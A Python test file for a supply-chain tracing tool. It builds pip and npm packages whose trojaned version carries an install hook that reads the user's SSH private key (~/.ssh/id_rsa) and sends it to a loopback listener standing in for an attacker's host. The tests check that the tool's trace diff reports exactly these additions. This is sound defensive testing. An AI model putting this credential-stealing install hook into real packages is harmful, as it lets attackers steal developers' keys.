"""`safe-trace trace diff` of a clean and a trojaned version of a package: exactly the difference."""

import json
import os
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "managers"))

import environment  # noqa: E402
from npm_case import NpmCase  # noqa: E402
from packages import SETUPTOOLS_BACKEND, make_sdist, setup_py  # noqa: E402
from pip_case import PipCase, vendor  # noqa: E402
from sinks import TcpSink, http_reply  # noqa: E402
from trace_file import newest_trace  # noqa: E402

# What honest builds do under names of their own each time: temporary files and directories, a
# compiler, a program that was just made, threads, a listener, files with the time in their names.
BUSY_PY = r"""
import os, socket, subprocess, sys, tempfile, threading, time
with tempfile.TemporaryDirectory() as where:
    source = os.path.join(where, "conftest%d.c" % os.getpid())
    with open(source, "w") as file: file.write("int main(void) { return 0; }\n")
    made = os.path.join(where, "conftest%d" % os.getpid())
    if subprocess.run(["gcc", "-o", made, source]).returncode == 0: subprocess.run([made])
os.close(tempfile.mkstemp()[0])
with socket.socket() as listener:
    listener.bind(("127.0.0.1", 0)); listener.listen()
    threading.Thread(target=lambda: listener.accept()).start()
    socket.create_connection(listener.getsockname()).close()
open("build-%d.log" % time.time_ns(), "w").close()
os.makedirs("cache/" + os.urandom(16).hex())
subprocess.run([sys.executable, "-c", "print('a helper of the build')"], check=True)
"""
# %(port)d: a listener on loopback, which stands for the thief's host.
STEAL_PY = r"""
try:
    with open(os.path.expanduser("~/.ssh/id_rsa")) as file: loot = file.read()
except OSError: loot = ""
try:
    with socket.create_connection(("127.0.0.1", %(port)d), 5) as sink: sink.sendall(loot.encode())
except OSError: pass
subprocess.run(["/usr/bin/base64", "--version"], stdout=subprocess.DEVNULL)
"""

# Whatever the trojan is brought by: the role and the package are added.
TROJAN = {("host", "127.0.0.1"), ("credential", "credential.ssh"), ("program", "/usr/bin/base#"),
          ("violation", "credential.ssh"), ("violation", "network.package")}


class TrojanCase:
    """Mixed in before a manager's case. `install(version, *options)` gives the trace's path."""

    honest = ("1.0.0", "1.1.0")
    trojan = "1.2.0"

    def start_sink(self):
        self.sink = TcpSink(reply=http_reply("thanks"))
        self.addCleanup(self.sink.close)

    def code(self, version):
        steal = STEAL_PY % {"port": self.sink.port} if version == self.trojan else ""
        return BUSY_PY + steal

    def diff(self, a, b):
        done = subprocess.run([environment.safe_trace(), "trace", "diff", "--json", a, b],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60)
        self.assertIn(done.returncode, (0, 1), done.stderr.decode())
        found = json.loads(done.stdout)["new"]
        self.assertEqual(bool(found), done.returncode == 1)
        return {(new["role"], new["package"], new["kind"], new["what"]) for new in found}

    def check_exact(self, *options):
        honest = [self.install(version, *options) for version in (*self.honest, self.honest[0])]
        for one in honest:
            for other in honest:
                self.assertEqual(set(), self.diff(one, other))
        trojans = [self.install(self.trojan, *options, status=120) for _ in range(2)]
        self.assertTrue(self.sink.untouched)
        expected = {("package", self.package, *what) for what in TROJAN}
        for trojan in trojans:
            for one in honest:
                self.assertEqual(expected, self.diff(one, trojan))
                self.assertEqual(set(), self.diff(trojan, one))
        self.assertEqual(set(), self.diff(*trojans))

    def test_the_trojan_steals_when_nothing_watches(self):
        self.install(self.trojan, supervised=False)
        with open(os.path.join(self.stolen_from.home, ".ssh", "id_rsa"), "rb") as file:
            self.assertGreaterEqual(self.sink.count(file.read()), 1)

    def test_exactly_what_the_trojan_adds(self):
        self.check_exact()

    def test_exactly_what_the_trojan_adds_where_every_open_is_recorded(self):
        self.check_exact("--log-level", "full")


class PipTrojan(TrojanCase, PipCase):
    package = "st-busy"

    def fill_index(self, folder):
        self.start_sink()
        vendor(folder)
        for version in (*self.honest, self.trojan):
            make_sdist(folder, self.package, version, {
                "setup.py": setup_py(self.package, version, self.code(version)),
                "pyproject.toml": SETUPTOOLS_BACKEND})

    def install(self, version, *options, supervised=True, status=0):
        world, _ = self.pip(["install", "%s==%s" % (self.package, version)], supervised,
                            options=options, status=status)
        self.stolen_from = world
        return newest_trace(world.state).path if supervised else ""


class NpmTrojan(TrojanCase, NpmCase):
    package = "st-busy"
    with_headers = False

    def fill_registry(self, registry):
        self.start_sink()
        for version in (*self.honest, self.trojan):
            registry.add(self.package, version,
                         scripts={"postinstall": "python3 build.py"},
                         files={"index.js": "", "build.py": self.code(version)})

    def install(self, version, *options, supervised=True, status=0):
        world, _ = self.manage([self.npm, "install"], supervised, options=options, status=status,
                               prepare=lambda w: self.project(w, {self.package: version}))
        self.stolen_from = world
        return newest_trace(world.state).path if supervised else ""
